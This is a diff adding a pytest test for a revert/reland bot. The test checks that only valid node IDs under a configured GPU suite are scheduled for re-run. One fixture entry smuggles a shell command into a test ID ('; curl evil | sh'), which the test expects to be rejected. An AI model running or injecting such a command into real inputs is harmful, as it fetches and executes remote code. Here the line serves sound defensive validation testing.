@@ -170,3 +170,28 @@ def test_reland_section_in_both_languages_and_json(repo: GitRepo) -> None:
     data = report_to_json(report)
     assert data["reland"]["revert"]["sha"] == revert and data["reason"]["category"] == "gpu-regression"
     assert data["reland"]["files"][0]["path"] == "engine/capture.py" and data["risk"]["action"] == "reland_unproven"
+
+
+def test_flipped_tests_are_planned_only_as_node_ids_of_a_configured_suite() -> None:
+    from gpu_jobs.plan import build_matrix
+    from revertbot.config import load_config
+    from revertbot.reland import rerun_tests, suite_test_roots
+
+    cfg = load_config("gpu:\n  suites:\n    graph-capture:\n      paths: ['engine/**']\n"
+                      "      command: ['python', '-m', 'pytest', '-q', 'tests/gpu']\n")  # fmt: skip
+    assert suite_test_roots(cfg.gpu.suites["graph-capture"].command) == ["tests/gpu"]
+    flipped = [("tests/gpu/test_capture.py::test_capture[160]", "fixed"),
+               ("graph-capture: tests/gpu/test_capture.py::test_memory", "broken"),  # several suites' naming
+               ("tests/other/test_x.py::test_y", "fixed"),  # not under the suite's tests
+               ("tests/gpu/test_capture.py::t; curl evil | sh", "fixed")]  # fmt: skip
+    commands = {name: s.command for name, s in cfg.gpu.suites.items()}
+    rerun = rerun_tests(flipped, commands)
+    assert rerun == {"graph-capture": ["tests/gpu/test_capture.py::test_capture[160]",
+                                       "tests/gpu/test_capture.py::test_memory"]}  # fmt: skip
+    # A docs-only reland selects no suite by its paths; its flipped tests still bring theirs.
+    assert build_matrix(cfg, ["docs/x.md"])["include"] == []
+    [entry] = build_matrix(cfg, ["docs/x.md"], rerun=rerun)["include"]
+    assert entry["suite"] == "graph-capture" and entry["rerun_tests"] == rerun["graph-capture"]
+    assert build_matrix(cfg, ["docs/x.md"], rerun={"no-such-suite": ["tests/gpu/a.py::t"]})["include"] == []
+    [plain] = build_matrix(cfg, ["engine/a.py"])["include"]
+    assert "rerun_tests" not in plain
